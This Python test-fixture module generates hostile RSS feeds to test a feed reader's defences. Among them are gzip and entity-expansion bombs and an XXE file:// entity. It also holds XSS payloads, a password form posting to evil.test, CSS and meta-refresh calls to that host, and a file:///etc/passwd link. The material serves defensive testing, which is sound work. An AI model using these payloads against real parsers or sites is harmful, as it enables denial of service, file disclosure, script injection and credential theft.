"""Hostile documents, each made by a small function; the ids are those of the project's list of hostile feeds.

H04-H29 are bodies that attack the reading of a document, H50-H70 markup and links that attack the page that shows it.
Nothing large is stored: a body exists while its test runs.
"""

from __future__ import annotations

import gzip
import html
import random
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

_DATE = "Mon, 06 Sep 2010 00:01:00 +0000"


def item(title: str = "t", description: str = "d", number: int = 1) -> str:
    """Return one RSS item; the texts are put in as they are, so that they may break the document."""
    return (
        f"<item><title>{title}</title><link>http://feed.test/{number}</link><guid>{number}</guid>"
        f"<pubDate>{_DATE}</pubDate><description>{description}</description></item>"
    )


def rss(body: str, doctype: str = "", root: str = "") -> bytes:
    """Return an RSS 2.0 document around `body`."""
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{doctype}<rss version="2.0"{root}>'
        f"<channel><title>T</title>{body}</channel></rss>"
    ).encode()


def entities(count: int) -> str:
    """Return a document type in which each entity holds ten times the one before."""
    nested = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, count))
    return f'<!DOCTYPE rss [<!ENTITY a0 "lol">{nested}]>'


# --- H04-H09: size and number --------------------------------------------------------------------------------------


def h04a_two_gzip_members() -> bytes:
    whole = rss("".join(item(number=number) for number in range(10)))
    return gzip.compress(whole[:400]) + gzip.compress(whole[400:])


def h04b_gzip_without_header() -> bytes:
    return gzip.compress(rss(item()))


def h04c_half_a_gzip() -> bytes:
    # Random words: a member that shrinks to one block would still yield nothing when cut.
    words = random.Random(4)
    whole = gzip.compress(rss("".join(item(f"{words.random()}", number=number) for number in range(200))))
    return whole[: len(whole) // 2]


def h04d_gzip_bomb() -> bytes:
    return gzip.compress(b"\0" * (64 << 20), 9)


def h06_one_huge_text() -> bytes:
    return rss(item(description="A " * 10_000_000))


def h08a_same_item(times: int = 70_000) -> bytes:
    return rss("<item><title>x</title><guid>1</guid><link>http://a.test/b</link></item>" * times)


def h08b_same_title(times: int = 170_000) -> bytes:
    return rss("<item><title>t</title></item>" * times)


def h09_many_items(count: int = 2_001) -> bytes:
    """Return items of which the first is the oldest: it must be the one that is left out."""
    dates = (
        f"{1 + number // 1440:02d} Sep 2010 {number // 60 % 24:02d}:{number % 60:02d}:00" for number in range(count)
    )
    return rss(
        "".join(
            f"<item><title>n{number}</title><guid>{number}</guid><pubDate>{date} +0000</pubDate></item>"
            for number, date in enumerate(dates)
        )
    )


# --- H10-H15: what makes parsers slow ------------------------------------------------------------------------------


def h10_many_attributes(count: int = 200_000, value: str = "1") -> bytes:
    """Return one tag with many attributes; `value=">"` hides its length from a simple check (H10b)."""
    attributes = " ".join(f'a{number}="{value}"' for number in range(count))
    # Not well-formed on purpose: only the lenient parser is quadratic.
    return rss(f"<item {attributes}><title>t & u</title></item>")


def h11_many_namespaces() -> bytes:
    return rss(item(), root=" " + " ".join(f'xmlns:n{number}="u:{number}"' for number in range(50_000)))


def h12a_open_tags_in_title() -> bytes:
    return rss("<item><title>" + "<b>" * 200_000 + "</title></item>")


def h12b_deep_nesting() -> bytes:
    return rss("<item>" + "<a>" * 100_000 + "x" + "</a>" * 100_000 + "</item>")


def h13_nested_markup(entries: int = 1, depth: int = 100_000) -> bytes:
    return rss("".join(item(description="&lt;div&gt;" * depth, number=number) for number in range(entries)))


def h14_billion_laughs() -> bytes:
    return rss(item("&a9;"), entities(10))


def h15a_one_entity_often() -> bytes:
    return rss(item("&x;" * 30_000), f'<!DOCTYPE rss [<!ENTITY x "{"A" * 30_000}">]>')


def h15b_large_entity() -> bytes:
    return rss(item("&x;" * 500), f'<!DOCTYPE rss [<!ENTITY x "{"A" * 200_000}">]>')


# --- H16-H17: what makes parsers reach out -------------------------------------------------------------------------


def h16_file_entity(path: str) -> bytes:
    doctype = f'<!DOCTYPE rss [<!ENTITY x SYSTEM "file://{path}">]>'
    return rss(item("a&x;b", "c&x;d"), doctype)


def h17_remote_dtd(address: str) -> bytes:
    return rss(item(), f'<!DOCTYPE rss SYSTEM "{address}">')


# --- H18-H25: damage ------------------------------------------------------------------------------------------------


def h18_runs() -> Iterator[tuple[str, bytes]]:
    yield "a", rss(item("&" * 500_000))
    yield "b", rss(item(description="<" * 500_000))
    yield "c", rss(item(description="<![CDATA[" + "<" * 300_000 + "]]>"))
    yield "d", rss("<!--" * 300_000)
    yield "e", rss("<!DOCTYPE " * 100_000)


def h19_date_of_nines() -> bytes:
    return rss(f"<item><title>t</title><guid>1</guid><pubDate>{'9' * 200_000}</pubDate></item>")


def h20_huge_style() -> bytes:
    return rss(item(description=f'<![CDATA[<p style="{"a:b;" * 100_000}">x</p>]]>'))


def h21_controls() -> bytes:
    return rss(item("a\0b\x0b\x1fc", number=1) + item("good", number=2))


def h22_cut_off() -> bytes:
    return rss("".join(item(f"title {number}", "word " * 30, number) for number in range(50)))[:-3_000]


def h23_bare_ampersand() -> bytes:
    return rss(item("AT&T outage", "AT&T says R&D is hit", 1) + item("good", number=2))


H24_NO_FEEDS = {
    "a empty": b"",
    "a blank": b" \n\t ",
    "b page": b"<!DOCTYPE html><html><head><title>Shop</title></head><body><p>Welcome</p></body></html>",
    "b page with comment": b"<!-- v1 --><HTML><body>Welcome</body></HTML>",
    "c JSON error": b'{"error": "not found", "status": 404}',
    "c JSON list": b'[{"id": 1}]',
    "d other XML": b'<?xml version="1.0"?><urlset><url><loc>http://feed.test/</loc></url></urlset>',
    "d text": b"Service unavailable",
}

_CAFE = (
    '<?xml version="1.0" encoding="{}"?><rss version="2.0"><channel><item><title>café</title></item></channel></rss>'
)
H25_ENCODINGS = {
    "a UTF-8 said to be us-ascii": _CAFE.format("us-ascii").encode(),
    "b Latin-1 said to be UTF-8": _CAFE.format("utf-8").encode("latin-1"),
    "c unknown name": _CAFE.format("x-nope").encode(),
    "d UTF-16 with BOM": _CAFE.format("utf-16").encode("utf-16"),
}


# --- H26-H29: what an honest feed does over time --------------------------------------------------------------------


def dated_item(number: int, day: int) -> str:
    """Return an item of September 2010."""
    return (
        f"<item><title>n{number}</title><link>http://feed.test/{number}</link>"
        f"<pubDate>{day:02d} Sep 2010 00:00:00 +0000</pubDate></item>"
    )


def h26_back_dated() -> tuple[bytes, bytes]:
    """Return two polls; the second has one more item, older than all others and at the end."""
    first = "".join(dated_item(number, 20 + number) for number in range(3))
    return rss(first), rss(first + dated_item(9, 1))


def h27_undated() -> bytes:
    return rss("<item><title>n</title><description>no date, no id, no link</description></item>")


# --- H50-H70: markup that attacks the page --------------------------------------------------------------------------

MARKUP = {
    "H50": "<script>alert(1)</script>",
    "H51": "<img src=x onerror=alert(1)>",
    "H52": '<a href="javascript:alert(1)">x</a>',
    "H53": '<a href=" java&#10;script:alert(1)">x</a>',
    "H54": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "H55": "<svg><script>alert(1)</script></svg>",
    "H56": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "H57": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "H58": '<iframe src="javascript:alert(1)"></iframe>',
    "H59": '<form action="https://evil.test"><input type=password></form>',
    "H60": "<style>*{background:url(https://evil.test)}</style>",
    "H61": '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    "H62": '<meta http-equiv=refresh content="0;url=https://evil.test">',
    "H63": '<base href="https://evil.test/">',
    "H70a": '<a href="/logout">x</a>',
    "H70b": '<a href="//evil.test/">x</a>',
}
LINKS = {
    "H64": "javascript:alert(1)",
    "H65": " JaVaScRiPt:alert(1)",
    "H66": "data:text/html,hi",
    "H66b": "vbscript:msgbox(1)",
    "H66c": "file:///etc/passwd",
    "H66d": "http://user:secret@feed.test/",
}
H67_AUTHOR = '"><script>alert(1)</script>'
H68_TITLE = "safe\u202egnp.exe\u200b " + "e" + "\u0301" * 500
H69_TITLE = "</title><script>alert(1)</script>"


def markup_everywhere(payload: str) -> bytes:
    """Return a feed that carries `payload` in title, description and content, escaped and in CDATA."""
    escaped, cdata = html.escape(payload), f"<![CDATA[{payload}]]>"
    return rss(
        "".join(
            f"<item><guid>{number}</guid><title>{text}</title><description>{text}</description>"
            f"<content:encoded>{text}</content:encoded></item>"
            f"<item><guid>{number}d</guid><title>{text}</title><description>{text}</description></item>"
            for number, text in enumerate((escaped, cdata))
        ),
        root=' xmlns:content="http://purl.org/rss/1.0/modules/content/"',
    )


def entry_link(link: str) -> bytes:
    return rss(f"<item><title>t</title><link>{html.escape(link)}</link></item>")


def whole_list() -> Iterator[tuple[str, bytes]]:
    """Yield every markup, link and text attack as a document: what the e2e tests put on a page."""
    for name, payload in MARKUP.items():
        yield name, markup_everywhere(payload)
    for name, link in LINKS.items():
        yield name, entry_link(link)
    yield "H67", rss(f"<item><title>t</title><author>{html.escape(H67_AUTHOR)}</author></item>")
    yield "H68", rss(item(H68_TITLE))
    yield "H69", rss(item(), root="").replace(b"<title>T<", f"<title>{html.escape(H69_TITLE)}<".encode())
